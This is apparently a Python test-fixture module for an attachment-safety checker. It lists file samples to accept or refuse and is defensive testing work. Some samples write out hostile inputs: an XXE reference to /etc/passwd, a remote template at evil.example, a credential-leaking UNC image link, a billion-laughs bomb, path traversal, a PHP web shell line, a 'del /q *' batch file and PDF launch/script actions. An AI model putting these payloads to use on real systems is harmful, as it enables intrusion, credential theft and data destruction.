"""Documents, mails and texts: ordinary ones, and those that want something."""

import io
import warnings
import zipfile
from collections.abc import Mapping

import pikepdf

from tests.attachments import samples as made
from tests.attachments.row import Content, refused, taken, text


def _file_in(name: str, content: Content) -> Content:
    return lambda: made.eml({name: content()})


def _docx(name: str, content: bytes = b"x") -> Content:
    return lambda: made.docx({name: content})


def _pdf(**more: Mapping[str, object]) -> Content:
    return lambda: made.pdf(**more)


def _locked(user: str) -> Content:
    return lambda: made.pdf(encryption=pikepdf.Encryption(user=user, owner="geheim"))


def _macros_in_an_excel_inside() -> bytes:
    return made.docx({"word/embeddings/s.xlsx": made.archive({"xl/vbaProject.bin": b"x"})})


def _deep_mail(depth: int) -> bytes:
    content = made.eml({"foto.jpg": made.photo()})
    for _ in range(depth):
        content = made.eml({"mail.eml": content})
    return content


def _entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l11;</a>'.encode()


def _twice_the_same_name() -> bytes:
    out = io.BytesIO(made.docx())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", b"<other/>")
    return out.getvalue()


KINDS = [
    taken("a photo", "vakantie.jpg", made.photo, "jpeg", "vakantie.jpg"),
    taken("a photo as PNG", "scherm.png", lambda: made.photo("PNG"), "png", "scherm.png"),
    taken("a photo as WebP", "foto.webp", lambda: made.photo("WEBP"), "webp", "foto.webp"),
    taken("a photo as HEIC becomes JPEG", "IMG_1.HEIC", lambda: made.photo("HEIF"), "jpeg", "IMG_1.jpg"),
    taken("a PDF", "brief.pdf", made.pdf, "pdf", "brief.pdf"),
    taken("a PDF that only may not be changed", "brief.pdf", _locked(""), "pdf", "brief.pdf"),
    taken("a Word document", "brief.docx", made.docx, "docx", "brief.docx"),
    taken("an old Word document", "brief.doc", made.doc, "doc", "brief.doc"),
    taken("an OpenDocument text", "brief.odt", made.odt, "odt", "brief.odt"),
    taken("a mail", "antwoord.eml", made.eml, "eml", "antwoord.eml"),
    taken("a mail with a photo", "a.eml", _file_in("foto.jpg", made.photo), "eml", "a.eml"),
    taken("a mail of Outlook", "antwoord.msg", made.msg, "msg", "antwoord.msg"),
    taken(
        "a mail of Outlook with a photo",
        "a.msg",
        lambda: made.msg({"foto.jpg": made.photo(size=(900, 700), quality=95)}),
        "msg",
        "a.msg",
    ),
    taken("plain text", "verhaal.txt", text(), "text", "verhaal.txt"),
    taken("text of an old Windows", "oud.txt", lambda: "Één café".encode("cp1252"), "text", "oud.txt"),
    taken("text as UTF-16", "b.txt", lambda: "Één café".encode("utf-16"), "text", "b.txt"),
]

PDFS = [
    refused("a script at opening", "a.pdf", _pdf(root={"/OpenAction": made.action(b"JavaScript")}), "active"),
    refused("a program at opening", "a.pdf", _pdf(root={"/OpenAction": made.action(b"Launch")}), "active"),
    refused("a script on a page", "a.pdf", _pdf(page={"/AA": b"<< /O << /S /JavaScript /JS (x) >> >>"}), "active"),
    refused("a script in disguise", "a.pdf", _pdf(root={"/OpenAction": b"<< /S /J#61vaScript /J#53 (x) >>"}), "active"),
    refused(
        "scripts packed away",
        "a.pdf",
        lambda: made.pdf(
            root={"/Names": b"<< /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"},
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "active",
    ),
    refused("a program inside", "a.pdf", made.pdf_with_a_file_inside, "inside"),
    refused("a password", "a.pdf", _locked("geheim"), "locked"),
    refused("half a PDF", "a.pdf", lambda: made.pdf()[:300], "damaged"),
    refused("PDF in name and beginning alone", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged"),
    refused("PDF and zip in one", "a.pdf", lambda: made.pdf() + made.archive({"a.exe": b"MZ"}), "mixed"),
    refused("PDF behind HTML", "a.pdf", lambda: b"<html>" + made.SCRIPT + made.pdf(), "mixed"),
]

DOCUMENTS = [
    refused(
        "entities from elsewhere",
        "a.docx",
        lambda: made.docx({"word/_rels/document.xml.rels": b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'}),
        "active",
    ),
    refused(
        "macros, as such",
        "a.docm",
        lambda: made.docx({"word/vbaProject.bin": b"x"}, "application/vnd.ms-word.document.macroEnabled.main+xml"),
        "active",
    ),
    refused("macros that are called docx", "a.docx", _docx("word/vbaProject.bin"), "active"),
    refused("controls that run", "a.docx", _docx("word/activeX/activeX1.bin"), "active"),
    refused(
        "a template from elsewhere",
        "a.docx",
        lambda: made.docx(rels=made.relation("attachedTemplate", "https://evil.example/t.dotm")),
        "active",
    ),
    refused(
        "a picture that asks Windows for a password",
        "a.docx",
        lambda: made.docx(rels=made.relation("image", "file://10.0.0.1/x.png")),
        "active",
    ),
    taken(
        "a link and a picture on the web",
        "a.docx",
        lambda: made.docx(rels=made.relation("hyperlink", "https://example.org")),
        "docx",
        "a.docx",
    ),
    refused("a program inside Word", "a.docx", _docx("word/embeddings/oleObject1.bin"), "inside"),
    refused("Excel with macros inside Word", "a.docx", _macros_in_an_excel_inside, "active"),
    refused(
        "entities without end", "a.docx", lambda: made.docx({"word/_rels/document.xml.rels": _entities()}), "damaged"
    ),
    refused("Word with a password, as zip", "a.docx", lambda: made.encrypted(made.docx()), "locked"),
    refused(
        "Word with a password",
        "a.docx",
        lambda: made.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}),
        "locked",
    ),
    refused("an encrypted zip", "a.zip", lambda: made.encrypted(made.archive({"a.txt": b"x"})), "locked"),
    refused("a zip", "a.zip", lambda: made.archive({"a.txt": b"x"}), "unsupported"),
    refused("a zip that is called Word", "a.docx", lambda: made.archive({"a.exe": b"MZ"}), "unsupported"),
    refused("a bomb of 150 MB", "a.docx", lambda: made.bomb(150), "unpacked"),
    refused("a bomb of 300 MB", "a.docx", lambda: made.bomb(300), "unpacked"),
    refused("a bomb that lies about its size", "a.docx", made.lying_bomb, "damaged"),
    refused("ten thousand entries", "a.docx", lambda: made.docx({f"w/{n}": b"" for n in range(10_000)}), "unpacked"),
    refused("a way out of the folder", "a.docx", _docx("../../evil.sh"), "damaged"),
    refused("two entries of one name", "a.docx", _twice_the_same_name, "damaged"),
    refused("half a Word document", "a.docx", lambda: made.docx({"w/x": bytes(range(256)) * 9})[:-60], "damaged"),
    refused("a program before Word", "a.docx", lambda: b"MZ" + bytes(64) + made.docx(), "mixed"),
    refused("something behind Word", "a.docx", lambda: made.docx() + made.SCRIPT, "mixed"),
    refused(
        "a spreadsheet",
        "a.xlsx",
        lambda: made.docx(type_="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "unsupported",
    ),
    refused("OpenDocument with macros", "a.odt", lambda: made.odt({"Basic/Standard/M.xml": b"x"}), "active"),
    refused(
        "OpenDocument with a password",
        "a.odt",
        lambda: made.odt({"META-INF/manifest.xml": b"<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"}),
        "locked",
    ),
    refused(
        "OpenDocument that runs at opening",
        "a.odt",
        lambda: made.odt(
            {"content.xml": b"<a xmlns:s='urn:oasis:names:tc:opendocument:xmlns:script:1.0'><s:event-listener/></a>"}
        ),
        "active",
    ),
    refused(
        "an OpenDocument spreadsheet",
        "a.ods",
        lambda: made.odt(type_=b"application/vnd.oasis.opendocument.spreadsheet"),
        "unsupported",
    ),
    refused("old Word with macros", "a.doc", lambda: made.doc({"Macros": {"VBA": {"dir": b"x"}}}), "active"),
    refused(
        "old Word with a program inside",
        "a.doc",
        lambda: made.doc({"ObjectPool": {"_1": {"\x01Ole10Native": b"MZ"}}}),
        "inside",
    ),
    refused("old Word with a password", "a.doc", lambda: made.doc(flags=0x0100), "locked"),
    refused("half an old Word document", "a.doc", lambda: made.doc()[:3000], "damaged"),
    refused("an old spreadsheet", "a.xls", lambda: made.compound({"Workbook": b"x"}), "unsupported"),
    refused("an installer", "a.msi", lambda: made.compound({"\u4840\u3f7f": b"x"}), "unsupported"),
]

MAILS_AND_TEXTS = [
    refused("a program in a mail", "a.eml", _file_in("run.exe", lambda: b"MZ" + bytes(99)), "inside"),
    refused("a web page in a mail", "a.eml", _file_in("factuur.html", lambda: b"<html>" + made.SCRIPT), "inside"),
    refused("macros in a mail", "a.eml", _file_in("a.docm", _docx("word/vbaProject.bin")), "inside"),
    refused("a program in a mail of Outlook", "a.msg", lambda: made.msg({"run.exe": b"MZ" + bytes(5000)}), "inside"),
    refused("mails in mails in mails", "a.eml", lambda: _deep_mail(9), "inside"),
    taken("a mail in a mail", "a.eml", lambda: _deep_mail(1), "eml", "a.eml"),
    refused("a mail that is none", "a.eml", text("Dit is geen mail."), "damaged"),
    taken("a mail with a script in its text", "a.eml", lambda: made.eml(html="<b>Dag</b>" + made.SCRIPT.decode()), "eml", "a.eml"),
    refused("a program", "setup.exe", lambda: b"MZ\x90\0" + bytes(200), "unsupported"),
    refused("a program that is called text", "setup.txt", lambda: b"MZ\x90\0" + bytes(200), "unsupported"),
    refused("a program of Linux", "run", lambda: b"\x7fELF\x02\x01\x01" + bytes(60), "unsupported"),
    refused("a script of a shell", "run.txt", text("#!/bin/sh\nreboot\n"), "unsupported"),
    refused("a batch file", "run.bat", text("@echo off\r\ndel /q *\r\n"), "unsupported"),
    refused("JavaScript", "a.js", text("alert(1)"), "unsupported"),
    refused("PHP", "shell.php", text("<?php system($_GET['c']); ?>"), "unsupported"),
    refused("HTML that is called text", "a.txt", text("<html><body onload=alert(1)>"), "unsupported"),
    refused("RTF", "a.rtf", text("{\\rtf1 {\\object\\objdata 01}}"), "unsupported"),
    refused("a command for a terminal", "a.txt", text("dag \x1b]0;evil\x07 dag"), "unsupported"),
    refused("a NUL in a text", "a.txt", lambda: b"dag\0dag", "unsupported"),
    refused("noise", "a.bin", lambda: bytes(range(256)) * 20, "unsupported"),
]  # fmt: skip
